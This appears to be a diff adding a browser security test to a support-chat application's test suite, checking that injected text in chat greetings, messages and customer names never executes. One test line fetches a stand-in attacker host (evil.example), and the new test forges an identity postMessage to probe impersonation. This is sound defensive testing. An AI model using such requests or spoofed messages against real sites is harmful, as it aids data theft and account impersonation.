@@ -2,9 +2,11 @@
 
 import pytest
 
+from barrymore.channels.chat.models import Widget
 from barrymore.channels.mail.sanitising import plain_text, sanitised
 from barrymore.conversations.files import store_file
-from barrymore.conversations.models import Attachment
+from barrymore.conversations.models import Attachment, Conversation
+from barrymore.customers.models import Customer
 from tests.channels.test_sanitising import CORPUS
 from tests.desk.builders import arrival
 
@@ -119,3 +121,28 @@ def test_the_watch_itself_would_notice(house, enter):
     page.evaluate("fetch('https://evil.example/y').catch(() => 0)")
     page.wait_for_timeout(300)
     assert "alert" in alarms
+
+
+def test_a_chat_runs_nothing_at_either_end(house, enter):
+    alarms = []
+    widget = house.widget
+    Widget.objects.update(greeting=MARK + TEMPLATE)
+    visitor = watched(enter("about:blank"), house, alarms)
+    visitor.goto(f"{house.url}/chat/{widget.key}/")
+    visitor.locator("textarea").fill(MARK + QUOTED + TEMPLATE)
+    visitor.get_by_role("button", name="Send").click()
+    visitor.locator(".chat-who").first.wait_for()
+    # Nobody but the page around the window may speak for a visitor.
+    begun = []
+    visitor.on("request", lambda request: begun.append(request.url) if "/begin/" in request.url else None)
+    identity = {"ref": "1", "email": "lee@guests.example", "name": "", "hash": "0"}
+    visitor.evaluate(
+        "told => { window.postMessage(told, '*'); }", {"barrymore": "identity", "identity": identity}
+    )
+    agent = watched(enter("about:blank", house.amina), house, alarms)
+    found = Conversation.objects.get(channel="chat")
+    Customer.objects.filter(pk=found.customer_id).update(name=MARK + QUOTED)
+    agent.goto(f"{house.url}/desk/{found.pk}/")
+    agent.locator(".message").first.wait_for()
+    assert agent.evaluate(TRACES) == visitor.evaluate(TRACES) == [False, 0, 0]
+    assert (alarms, begun) == ([], [])
